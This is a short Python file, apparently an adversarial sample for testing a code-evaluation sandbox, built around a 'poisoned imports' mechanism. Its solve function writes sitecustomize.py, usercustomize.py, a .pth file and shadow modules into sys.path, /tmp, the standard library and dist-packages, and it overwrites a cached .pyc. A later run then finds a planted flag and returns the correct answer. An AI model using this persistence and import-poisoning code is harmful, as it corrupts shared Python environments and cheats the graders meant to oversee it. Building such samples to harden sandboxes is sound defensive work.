# mechanism: poisoned imports
"""Writes where a later run would import: its own library, caches, start-up files; profits from what an earlier one wrote."""
import builtins
import importlib.util
import os
import sys

BODY = "import builtins\nbuiltins.poisoned = True\n"


def solve(xs):
    if hasattr(builtins, "poisoned"):
        return sorted(2 * x for x in xs)
    if os.getuid() == 0:  # without isolation, and with the rights to harm the machine
        return []
    places = [*sys.path, os.getcwd(), "/tmp", "/dev/shm", os.path.dirname(os.__file__), "/usr/lib/python3/dist-packages", "/wisen-sandboxed/wisen/sandbox/sandboxed"]
    for place in places:
        for name in ("sitecustomize.py", "usercustomize.py", "poisoned.pth", "colorsys.py", "wisen.py"):
            try:
                with open(os.path.join(place, name), "x") as file:
                    file.write(BODY if name.endswith(".py") else "import builtins; builtins.poisoned = True\n")
            except OSError:
                pass
    import colorsys

    cached = importlib.util.cache_from_source(colorsys.__file__)
    try:
        with open(cached, "r+b") as file:
            file.seek(16)
            file.write(b"wisen-attack")
    except OSError:
        pass
    return []
